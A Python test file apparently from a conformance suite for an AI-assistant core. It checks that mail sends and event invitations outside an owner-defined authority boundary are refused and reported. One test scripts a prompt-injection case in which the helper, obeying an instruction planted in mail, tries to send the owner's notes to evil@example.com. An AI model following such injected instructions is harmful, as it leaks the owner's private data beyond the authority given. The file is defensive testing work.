"""The task's authority on the core's tools (R33, R41): outside the boundary an irreversible action is refused, and
the refusal is in the outcome, in the owner's language (R32).

The boundary is structured (R41, docs/contracts.md "The authority boundary"): `send_mail to <address>[, ...]`
lets mail go to those recipients only, `create_event with <address>[, ...]` invites those attendees only. A core
must refuse a send to anyone else (a wrong recipient, or one an instruction in mail names), and an item that does
not parse, such as a negation, must never authorize: the core may refuse such a create (4xx) or accept it and
refuse the tool; both are checked here.
"""

from __future__ import annotations

import pytest

from contracts.core_api import SessionCreated, SessionStatus
from reference.core.script import scripted_task
from tests.conformance.contract import CoreUnderTest, check_problem, in_english, in_russian

QUICK = {"step_ms": 5, "input_tokens": 1000, "input_growth": 500}
SEND = {"step": 1, "tool": "send_mail", "args": {"to": "bob@example.com", "subject": "Q3 figures"}}
EVENT = {"step": 2, "tool": "create_event", "args": {"title": "Q3 review", "when": "2026-11-03 10:00"}}
DRAFT = {"step": 2, "tool": "draft_mail", "args": {"to": "alice@example.com", "subject": "Lunch"}}
MEETING = {
    "step": 2,
    "tool": "create_event",
    "args": {"title": "Q3 review", "when": "2026-11-03 10:00", "attendees": ["bob@example.com"]},
}
# The address the seeded injection mail asks the helper to send the owner's notes to (reference core's world).
INJECTED = "evil@example.com"


@pytest.mark.parametrize("language", ["en", "ru"])
async def test_irreversible_actions_outside_the_boundary_are_refused_and_reported(
    core: CoreUnderTest, language: str
) -> None:
    """R33, R32, R18: with an empty boundary, send and create are refused, recorded and named in the outcome."""
    task = scripted_task("Prepare the Q3 follow-up", steps=3, tool_calls=[SEND, EVENT, DRAFT], **QUICK)
    session_id = await core.create(task, language=language)

    final = await core.settled(session_id)

    assert final.status is SessionStatus.COMPLETED
    assert [(action.tool, action.whom) for action in final.actions] == [("draft_mail", "alice@example.com")]
    assert len(final.refusals) == 2
    assert "bob@example.com" in final.refusals[0] and "Q3 review" in final.refusals[1]
    in_language = in_russian if language == "ru" else in_english
    assert final.outcome is not None
    for refusal in final.refusals:
        assert in_language(refusal.replace("send_mail", "").replace("create_event", "")), refusal
        assert refusal in final.outcome.text


async def test_actions_inside_the_boundary_are_performed_with_whom_and_when(core: CoreUnderTest) -> None:
    """R33, R18: named actions run, each recorded with whom it affected, what happened and when."""
    task = scripted_task("Send the Q3 figures", steps=3, tool_calls=[SEND, MEETING], **QUICK)
    session_id = await core.create(task, boundary=("Send mail to bob@example.com", "create-event with bob@example.com"))

    final = await core.settled(session_id)

    assert final.refusals == []
    sent, event = final.actions
    assert (sent.tool, sent.whom) == ("send_mail", "bob@example.com") and sent.what
    assert event.tool == "create_event" and "Q3 review" in event.what
    assert sent.at <= event.at


async def test_a_send_to_a_recipient_outside_the_boundary_is_refused(core: CoreUnderTest) -> None:
    """R41, R33, R18: `send_mail to bob@example.com` refuses mail to anyone else and reports it in the outcome;
    the right recipient in the same session is allowed."""
    to_other = {"step": 1, "tool": "send_mail", "args": {"to": "carol@example.com", "subject": "Q3 figures"}}
    to_bob = {**SEND, "step": 2}
    task = scripted_task("Send the Q3 figures to Bob", steps=3, tool_calls=[to_other, to_bob], **QUICK)
    session_id = await core.create(task, boundary=("send_mail to bob@example.com",))

    final = await core.settled(session_id)

    assert final.status is SessionStatus.COMPLETED
    assert [(action.tool, action.whom) for action in final.actions] == [("send_mail", "bob@example.com")]
    (refusal,) = final.refusals
    assert "carol@example.com" in refusal
    assert final.outcome is not None and refusal in final.outcome.text


async def test_an_instruction_injected_in_mail_naming_another_recipient_is_refused(core: CoreUnderTest) -> None:
    """R41, R33: the helper reads the inbox and (as a model obeying the injected instruction would) sends to the
    address the mail names; the boundary names only Bob, so the core refuses the send and reports it."""
    read_mail = {"step": 1, "tool": "read_mail", "args": {}}
    obey = {"step": 2, "tool": "send_mail", "args": {"to": INJECTED, "subject": "All notes", "body": "notes"}}
    task = scripted_task("Triage my inbox", steps=3, tool_calls=[read_mail, obey], **QUICK)
    session_id = await core.create(task, boundary=("send_mail to bob@example.com",))

    final = await core.settled(session_id)

    assert final.status is SessionStatus.COMPLETED
    assert all(INJECTED not in action.whom for action in final.actions)
    (refusal,) = final.refusals
    assert INJECTED in refusal
    assert final.outcome is not None and refusal in final.outcome.text


@pytest.mark.parametrize(
    "item",
    [
        "send_mail: NO, never",
        "never send mail to bob@example.com",
        "send mail only after I confirm",
        "don't send mail to bob@example.com",
    ],
)
async def test_a_negation_never_authorizes(core: CoreUnderTest, item: str) -> None:
    """R41, R33: a negated or conditional item authorizes nothing: the core refuses the create with a Problem
    naming the boundary, or accepts it and refuses the send, reporting the refusal in the outcome."""
    task = scripted_task("Mail Bob", steps=2, tool_calls=[SEND], **QUICK)
    body = core.body(task, boundary=(item,))

    answer = await core.http.post("/v1/sessions", json=body)

    if answer.status_code != 201:
        assert "boundary" in check_problem(answer).message
        return
    session_id = SessionCreated.model_validate(answer.json()).session_id
    final = await core.settled(session_id)
    assert final.actions == []
    (refusal,) = final.refusals
    assert "bob@example.com" in refusal
    assert final.outcome is not None and refusal in final.outcome.text
